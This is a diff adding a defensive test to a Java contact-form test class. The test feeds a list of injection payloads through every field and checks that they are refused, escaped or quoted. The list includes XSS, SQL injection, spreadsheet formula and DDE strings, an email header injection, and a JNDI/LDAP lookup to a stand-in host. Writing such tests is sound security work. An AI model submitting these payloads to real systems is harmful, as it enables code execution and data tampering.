@@ -3,6 +3,7 @@ package venue.server;
 import static org.assertj.core.api.Assertions.assertThat;
 import static venue.server.Answers.json;
 
+import java.io.IOException;
 import java.net.URLEncoder;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
@@ -12,6 +13,8 @@ import java.util.Map;
 import java.util.TreeMap;
 import java.util.stream.Collectors;
 import java.util.stream.Stream;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Document;
 import org.jsoup.nodes.Element;
@@ -30,6 +33,17 @@ class FormsTest {
     private static final SiteId MOOR = new SiteId("kestrel-moor");
     private static final String API = "/api/sites/kestrel-moor/answers";
     private static final String EVIL = "\"><script>alert(1)</script><img src=x onerror=alert(1)>";
+
+    private static final List<String> ATTACKS = List.of(
+            EVIL,
+            "<svg onload=alert(1)>",
+            "';drop table answer;--",
+            "=HYPERLINK(\"http://prize.example\")",
+            "+1|' /C calc'!A0",
+            "@SUM(A1:A9)",
+            "-1+1",
+            "a\r\nBcc: all@prize.example",
+            "{{7*7}} ${jndi:ldap://prize.example} %s%n");
 
     @As
     private Client stranger;
@@ -170,6 +184,31 @@ class FormsTest {
         String table = maja.get(API + "/contact-form/table").body();
         assertThat(table.lines().findFirst()).contains("number,came,state,stands,line,name,email,words,consent");
         assertThat(table).contains("'=SUM(");
+    }
+
+    @Test
+    void attacksThroughAnyFieldAreNoMoreThanWords() throws IOException {
+        for (String attack : ATTACKS) {
+            Map<String, String> form =
+                    filled("/contact", "name", attack, "email", attack, "words", attack, "consent", attack);
+            HttpResponse<String> refused = send("/contact", form);
+            assertThat(refused.statusCode()).as(attack).isEqualTo(422);
+            Document page = Jsoup.parse(refused.body());
+            assertThat(page.select(".filling script, .filling img, .filling svg"))
+                    .isEmpty();
+            assertThat(page.select("textarea").val()).isEqualTo(attack.replace("\r", ""));
+            form.put("email", "attack@moor.example");
+            form.put("consent", "yes");
+            assertThat(send("/contact", form).statusCode()).as(attack).isEqualTo(303);
+        }
+        JsonNode sent = json(maja.get("/api/sites/kestrel-moor/senders?email=attack@moor.example"));
+        assertThat(sent.at("/rows").size()).isEqualTo(ATTACKS.size());
+        assertThat(sent.at("/rows/0/who").asString()).isEqualTo(ATTACKS.get(ATTACKS.size() - 1));
+        String table = maja.get(API + "/contact-form/table").body();
+        try (CSVParser rows = CSVParser.parse(table, CSVFormat.DEFAULT)) {
+            assertThat(rows).allSatisfy(row -> assertThat(row).noneMatch(cell -> cell.matches("(?s)[=+@\\t\\r-].*")));
+        }
+        assertThat(table).contains("'=HYPERLINK", "'+1|", "'@SUM", "'-1+1");
     }
 
     @Test
